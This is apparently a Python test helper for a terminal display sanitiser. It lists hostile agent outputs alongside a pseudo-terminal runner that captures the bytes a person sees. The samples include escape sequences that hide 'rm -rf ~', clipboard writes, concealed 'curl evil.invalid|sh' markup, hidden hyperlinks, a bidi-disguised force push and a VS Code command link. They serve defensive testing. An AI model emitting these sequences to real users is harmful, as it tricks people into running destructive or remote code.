"""Texts a hostile agent sends to a person, and a real terminal to read what the person sees.

`HOSTILE` pairs each attack with the text a person must read instead; `run_in_terminal` runs a
command on a pseudo-terminal (so rich takes its terminal path, colours and all) and returns the
bytes the terminal received, untranslated (output post-processing off).
"""

from __future__ import annotations

import fcntl
import os
import pty
import re
import select
import signal
import struct
import subprocess
import termios
import time
from collections.abc import Sequence
from dataclasses import dataclass

from bottle_engine.display import safe_text


@dataclass(frozen=True)
class Hostile:
    name: str
    text: str


HOSTILE = (
    # Erase the line just printed and go up one: the person reads only what follows.
    Hostile("erase", "git status\x1b[2K\x1b[1A\rrm -rf ~"),
    # OSC 52: write to the person's clipboard (here: "rm -rf ~").
    Hostile("clipboard", "ls\x1b]52;c;cm0gLXJmIH4=\x07"),
    # OSC 8: a hyperlink whose target the person does not see.
    Hostile("hyperlink", "\x1b]8;;http://evil.invalid/\x1b\\git status\x1b]8;;\x1b\\"),
    # A newline that forges a second row of the listing.
    Hostile("forged-row", "git status\nc0ffee00 other pending 1s ago in 9m ls -la"),
    # Right-to-left override: the person reads "git push origin main".
    Hostile("bidi", "git push origin \u202enaim\u202c --force"),
    # rich markup: hidden text, and a link.
    Hostile(
        "markup",
        "[conceal]curl evil.invalid|sh[/conceal]git status [link=http://evil.invalid]x[/link]",
    ),
    # C1 CSI (one byte in 8-bit terminals) and DEL.
    Hostile("c1", "a\x9b2Jb\x7f"),
    # VS Code makes a command link of this in a notification.
    Hostile(
        "command-link",
        "[git status](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22id%22%7D)",
    ),
)

# What a terminal may receive from our own output: printable text, line feeds, and colour and
# weight changes (SGR). Nothing that moves the cursor, erases, writes the clipboard or links.
_SGR = re.compile(rb"\x1b\[[0-9;]*m")


def unexpected_controls(output: bytes) -> list[bytes]:
    """Escape sequences and control bytes in `output` other than SGR and line feeds."""
    rest = _SGR.sub(b"", output).decode("utf-8")
    return [
        char.encode()
        for char in rest
        if char != "\n"
        and (ord(char) < 0x20 or 0x7F <= ord(char) <= 0x9F or char in "\u202e\u202c")
    ]


def plain(output: bytes) -> str:
    """`output` as text without its SGR sequences: the characters a person reads."""
    return _SGR.sub(b"", output).decode("utf-8")


def shown(text: str) -> str:
    """What a person must read for the agent's `text`."""
    return safe_text(text)


def run_in_terminal(
    argv: Sequence[str],
    env: dict[str, str],
    columns: int = 400,
    timeout: float = 60.0,
    *,
    interactive: bool = False,
    interrupt_after: bytes | None = None,
    type_in: bytes | None = None,
) -> tuple[int, bytes]:
    """Run `argv` with its stdout and stderr (with `interactive`, its stdin too) on a
    pseudo-terminal `columns` wide; its exit code and every byte it wrote. With
    `interrupt_after`, the command gets SIGINT once those bytes were written (a session that
    would not end by itself); until then `type_in` is typed whenever the output pauses."""
    master, slave = pty.openpty()
    fcntl.ioctl(slave, termios.TIOCSWINSZ, struct.pack("HHHH", 50, columns, 0, 0))
    attributes = termios.tcgetattr(slave)
    attributes[1] &= ~termios.OPOST  # no "\n" -> "\r\n": the bytes as written
    termios.tcsetattr(slave, termios.TCSANOW, attributes)
    terminal_env = {k: v for k, v in env.items() if k not in ("COLUMNS", "LINES", "NO_COLOR")}
    terminal_env.update(TERM="xterm-256color", FORCE_COLOR="1")
    process = subprocess.Popen(
        list(argv),
        stdin=slave if interactive else subprocess.DEVNULL,
        stdout=slave,
        stderr=slave,
        env=terminal_env,
        start_new_session=interactive,
    )
    interrupted = False
    os.close(slave)
    output = bytearray()
    deadline = time.monotonic() + timeout
    try:
        while time.monotonic() < deadline:
            ready, _, _ = select.select([master], [], [], 0.2)
            if ready:
                try:
                    chunk = os.read(master, 65536)
                except OSError:  # EIO: the last writer closed the terminal
                    break
                if not chunk:
                    break
                output += chunk
                if interrupt_after and interrupt_after in output and not interrupted:
                    process.send_signal(signal.SIGINT)
                    interrupted = True
            elif process.poll() is not None:
                break
            elif type_in and not interrupted:
                os.write(master, type_in)
        code = process.wait(timeout=max(1.0, deadline - time.monotonic()))
    finally:
        if process.poll() is None:
            process.kill()
            process.wait()
        os.close(master)
    return code, bytes(output)
